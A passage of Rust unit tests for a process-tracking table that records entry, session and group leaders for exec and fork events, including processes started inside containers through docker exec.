        &nested.process.entry_leader,
        EntryLeader::Of(l, EntryType::Container) if l.pid == 600
    ));

    // `docker exec`: the runtime (host namespace) forks a process into the
    // container; it starts a new entry and a new session.
    let mut ev = exec(700, 500, 500, 100, "/bin/bash", &["bash"]);
    ev.task = task_in(700, 500, CONTAINER, 700, 700);
    ev.parent = Some(task_in(500, 100, HOST, 1, 1));
    let exec_in = t.on_exec(&ev);
    assert_eq!(
        exec_in.process.entry_leader,
        EntryLeader::Own(EntryType::Container)
    );
    // Its children inherit it through fork and exec.
    t.on_fork(&ForkEvent {
        child: task_in(701, 600, CONTAINER, 700, 701),
        ..fork(701, 600, 700, 500)
    });
    assert!(matches!(
        &t.get(701).unwrap().entry_leader,
        EntryLeader::Of(l, EntryType::Container) if l.pid == 700
    ));
    let mut ev = exec(701, 600, 700, 500, "/usr/bin/id", &["id"]);
    ev.task = task_in(701, 600, CONTAINER, 700, 701);
    ev.parent = Some(task_in(700, 500, CONTAINER, 700, 700));
    let id = t.on_exec(&ev);
    assert!(matches!(
        &id.process.entry_leader,
        EntryLeader::Of(l, _) if l.pid == 700
    ));
    assert_eq!(id.leaders.session.as_ref().map(|l| l.pid), Some(700));
    assert_eq!(id.leaders.group.as_ref().map(|l| l.pid), Some(701));
}

#[test]
fn a_leader_that_is_not_one_is_not_reported() {
    let proc = FakeProc::new();
    let mut t = table(proc.path(), 100);
    // Pid 800 is in the table but leads no session (its sid is 1).
    let mut p = snap(800, 0, 10, "daemon", &["daemon"]);
    p.sid = 1;
    p.pgid = 800;
    t.seed(vec![p]);
    let mut ev = exec(900, 20, 800, 10, "/bin/true", &["true"]);
    ev.task = task_in(900, 20, 0, 800, 800);
    let ctx = t.on_exec(&ev);
    assert!(ctx.leaders.session.is_none());
    assert_eq!(ctx.leaders.group.as_ref().map(|l| l.pid), Some(800));
}
